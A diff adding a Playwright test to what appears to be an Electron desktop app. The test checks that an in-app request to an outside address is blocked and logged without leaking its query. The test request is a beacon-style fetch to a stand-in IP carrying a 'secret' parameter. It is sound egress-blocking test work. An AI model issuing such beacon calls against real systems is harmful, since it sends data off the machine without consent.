@@ -20,6 +20,23 @@ test.describe('desktop shell @desktop', () => {
     expect(globals).toEqual({ require: 'undefined', process: 'undefined', bridge: ['call', 'fetchFile', 'onJobEvent', 'startJob', 'uploadFile'] });
   });
 
+  test('the session stops and logs any request that would leave the machine', async ({ electronApp }) => {
+    if (!electronApp) throw new Error('desktop target only');
+    let stderr = '';
+    electronApp.process().stderr?.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
+    const outcome = await electronApp.evaluate(async ({ session }) => {
+      try {
+        await session.defaultSession.fetch('https://203.0.113.9/beacon?secret=1');
+        return 'loaded';
+      } catch {
+        return 'blocked';
+      }
+    });
+    expect(outcome).toBe('blocked');
+    await expect.poll(() => stderr).toContain('Warrant blocked a network request: https://203.0.113.9/beacon');
+    expect(stderr).not.toContain('secret=1');
+  });
+
   test('navigation away from the app is blocked and new windows are refused', async ({ app, electronApp }) => {
     if (!electronApp) throw new Error('desktop target only');
     const opened: string[] = [];
